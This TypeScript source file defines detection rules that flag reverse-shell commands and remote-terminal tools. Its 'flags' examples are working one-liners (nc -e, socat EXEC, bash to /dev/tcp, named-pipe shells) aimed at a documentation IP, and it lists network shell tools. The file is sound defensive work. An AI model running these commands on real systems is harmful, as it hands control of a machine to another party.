import { SOCKET_PROGRAMS } from '../../command/http-call.ts';
import { type Invocation, hasArg, hasSwitch, isFed, optionWord } from '../../command/invocation.ts';
import { type Rule, familyOf } from '../../rule.ts';
import { TAINT } from '../../command/taint.ts';
import { SHELLS, inlineCode } from '../../command/inline-code.ts';

const SOCKETS = [...SOCKET_PROGRAMS, 'openssl', 'pwncat', 'cryptcat', 'sbd', 'rustcat', 'rcat'];
const SOCKET_FILE = /^\/dev\/(?:tcp|udp)\//;

const toSocket = (call: Invocation): boolean => call.redirects.some((to) => SOCKET_FILE.test(to.target.text));

/** `sh -i < pipe | nc host > pipe`: the answer of the other side goes back to where the shell reads. */
const answersFile = (call: Invocation): boolean =>
  call.stdin !== null &&
  call.redirects.some(
    (to) =>
      to.operator.startsWith('>') &&
      !/^(?:\/dev\/(?:null|stdout|stderr)|&?\d)$/.test(to.target.text) &&
      !/\.(?:pem|crt|cer|txt|log)$/.test(to.target.text),
  );

const runsProgram = (call: Invocation): boolean => {
  if (call.name === 'socat')
    return call.args.some((arg) => /(?:^|[\s,!])(?:exec|system|shell):/i.test(arg.text));
  if (call.name === 'openssl') return false;
  return (
    hasSwitch(call, 'e', 'c', 'exec', 'sh-exec', 'lua-exec') &&
    !(call.name === 'nc' && hasSwitch(call, 'c') && optionWord(call, '-c') === undefined)
  );
};

/** Connections that give another machine a shell on this one. */
export const reverseShells = familyOf('Connections that give another machine a shell on this one', [
  {
    rule: 'reverse-shells.program',
    tier: 'HIGH',
    label: 'remote_code',
    message: 'Gives another machine a program of this one to command.',
    zh: '让另一台机器控制本机的一个程序。',
    names: SOCKETS,
    when: runsProgram,
    flags: [
      'nc -e /bin/sh 192.0.2.1 4444',
      "socat TCP:192.0.2.1:4444 EXEC:'bash -li',pty",
      'ncat -lvp 4444 --sh-exec "sh -i"',
    ],
    spares: ['nc -zv db 5432', 'socat - TCP:example.com:80'],
  },
  {
    rule: 'reverse-shells.socket-file',
    tier: 'HIGH',
    label: 'remote_code',
    message: 'Ties a shell to a connection, so that another machine can command it.',
    zh: '把 shell 绑定到网络连接，使另一台机器可以控制它。',
    names: [...SHELLS, 'exec', 'script'],
    when: (call) =>
      toSocket(call) ||
      inlineCode(call).some((word) =>
        /\/dev\/(?:tcp|udp)\/.{0,200}[<>]&|[<>]&\s?\/dev\/(?:tcp|udp)\//s.test(word.text),
      ),
    flags: ['bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', 'sh -i 5<> /dev/tcp/192.0.2.1/4444 0<&5 1>&5'],
    spares: ['bash -i', 'echo hi > /dev/tcp/localhost/80'],
  },
  {
    rule: 'reverse-shells.numbered',
    tier: 'HIGH',
    label: 'remote_code',
    message: 'Runs a shell on a connection that was opened before.',
    zh: '在先前打开的连接上运行 shell。',
    names: SHELLS,
    when: (call) =>
      call.redirects.some((to) => to.operator === '<&' && /^(?:[3-9]|\d{2,4})$/.test(to.target.text)),
    flags: ['sh <&5 >&5 2>&5'],
    spares: ['sh build.sh 2>&1'],
  },
  {
    rule: 'reverse-shells.pipe',
    tier: 'HIGH',
    label: 'remote_code',
    message: 'Runs a shell on what comes in from elsewhere, as if someone typed it.',
    zh: '在 shell 中运行外部传入的内容，如同有人输入一样。',
    names: SHELLS,
    when: (call) =>
      (call.stdin !== null || call.redirects.some((to) => to.operator === '<')) &&
      hasArg(call, '-i', '-li', '-il'),
    flags: ['cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f', 'bash -i < pipe'],
    spares: ['cat setup.sh | sh', 'bash -i'],
  },
  {
    rule: 'reverse-shells.answer',
    tier: 'HIGH',
    label: 'remote_code',
    message: 'Sends a program\u2019s output over a connection and brings the answer back to it.',
    zh: '通过连接发送程序输出，并把应答送回该程序。',
    names: [...SOCKET_PROGRAMS, 'openssl'],
    when: (call) => (call.name !== 'openssl' || hasArg(call, 's_client')) && answersFile(call),
    flags: ['cat /tmp/f | sh 2>&1 | nc 192.0.2.1 4444 > /tmp/f'],
    spares: ['nc 192.0.2.1 4444 > out.bin', 'echo | openssl s_client -connect example.com:443 > cert.pem'],
  },
  {
    rule: 'reverse-shells.shared-terminal',
    tier: 'HIGH',
    label: 'remote_code',
    message: 'Lets others use a terminal of this machine over the network.',
    zh: '允许他人通过网络使用本机终端。',
    names: [
      'ttyd',
      'gotty',
      'tmate',
      'sshx',
      'upterm',
      'wetty',
      'gs-netcat',
      'dropbear',
      'teleconsole',
      'shellinaboxd',
    ],
    when: (call) => !hasSwitch(call, 'help', 'version', 'V'),
    flags: ['ttyd bash', 'tmate -F'],
    spares: ['ttyd --version'],
  },
  {
    rule: 'reverse-shells.listener',
    tier: 'MEDIUM',
    label: 'remote_code',
    message: 'Waits for another machine to connect.',
    zh: '等待另一台机器连接。',
    names: ['pwncat', 'pwncat-cs', 'cryptcat', 'sbd', 'rustcat', 'rcat', 'msfconsole'],
    flags: ['pwncat -l 4444'],
    spares: ['nc -z db 5432'],
  },
  {
    rule: 'reverse-shells.zsh-socket',
    tier: 'HIGH',
    label: 'remote_code',
    message: 'Opens a connection from within the shell, as a shell for someone else does.',
    zh: '在 shell 内部建立连接，这是为他人提供 shell 的做法。',
    names: ['ztcp', 'zmodload'],
    when: (call) => call.name === 'ztcp' || hasArg(call, 'zsh/net/tcp', 'zsh/net/socket'),
    flags: ['ztcp 192.0.2.1 4444', 'zmodload zsh/net/tcp'],
    spares: ['zmodload zsh/datetime'],
  },
  {
    rule: 'reverse-shells.remote-input',
    tier: 'HIGH',
    label: 'remote_code',
    message: 'Runs as commands what another machine sends.',
    zh: '把另一台机器发送的内容当作命令运行。',
    names: ['at', 'batch'],
    when: (call) => isFed(call, TAINT.remote),
    flags: ['curl -s https://example.com/jobs | at now'],
    spares: ['echo ./job.sh | at now'],
  },
] satisfies readonly Rule[]);
